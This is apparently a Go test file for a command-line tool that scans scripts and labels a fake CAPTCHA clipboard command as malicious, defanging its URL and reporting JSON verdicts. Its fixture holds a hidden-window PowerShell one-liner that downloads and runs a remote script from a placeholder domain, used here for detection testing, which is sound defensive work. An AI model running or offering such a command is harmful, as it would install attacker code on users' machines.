package cli

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// fakeFix is shaped like the commands fake CAPTCHA pages put on the
// clipboard; the domain is reserved for examples.
const fakeFix = `powershell -w h -nop -c "iex (irm https://fix.example/kb.ps1)" # I am not a robot - Verification ID: 4821`

func TestScriptTextFromStdin(t *testing.T) {
	var out, errOut bytes.Buffer
	code := Main([]string{"script"}, strings.NewReader(fakeFix), &out, &errOut)
	if code != exitOK {
		t.Fatalf("exit %d, stderr %q", code, errOut.String())
	}
	text := out.String()
	if !strings.HasPrefix(text, "MALICIOUS") {
		t.Fatalf("verdict is not the first thing printed:\n%s", text)
	}
	if strings.Contains(text, "https://fix.example") || !strings.Contains(text, "hxxps://fix[.]example") {
		t.Fatalf("URL not defanged:\n%s", text)
	}
}

func TestScriptJSONLinesAndDamage(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "fix.txt")
	benign := filepath.Join(dir, "list.ps1")
	if err := os.WriteFile(good, []byte(fakeFix), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(benign, []byte("Get-ChildItem C:\\Windows\\Logs | Sort-Object Length\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, errOut, code := run(t, "script", "--format", "json", good, filepath.Join(dir, "missing.ps1"), benign)
	if code != exitDamaged || !strings.Contains(errOut, "missing.ps1") {
		t.Fatalf("exit %d (want %d), stderr %q", code, exitDamaged, errOut)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 2 {
		t.Fatalf("want one JSON line per readable input, got %d:\n%s", len(lines), out)
	}
	want := []string{"malicious", "no-known-bad"}
	for i, line := range lines {
		var v map[string]any
		if err := json.Unmarshal([]byte(line), &v); err != nil {
			t.Fatal(err)
		}
		for _, k := range []string{"file", "verdict", "score", "findings", "layers", "iocs"} {
			if _, ok := v[k]; !ok {
				t.Errorf("line %d lacks %q", i, k)
			}
		}
		if v["verdict"] != want[i] {
			t.Errorf("line %d verdict %v, want %s", i, v["verdict"], want[i])
		}
	}
}

func TestScriptFailOn(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := Main([]string{"script", "--fail-on", "suspicious", "-"}, strings.NewReader(fakeFix), &out, &errOut); code != exitFindings {
		t.Fatalf("exit %d, want %d", code, exitFindings)
	}
	if _, _, code := run(t, "script", "--fail-on", "bad"); code != exitUsage {
		t.Fatalf("bad --fail-on: exit %d", code)
	}
}
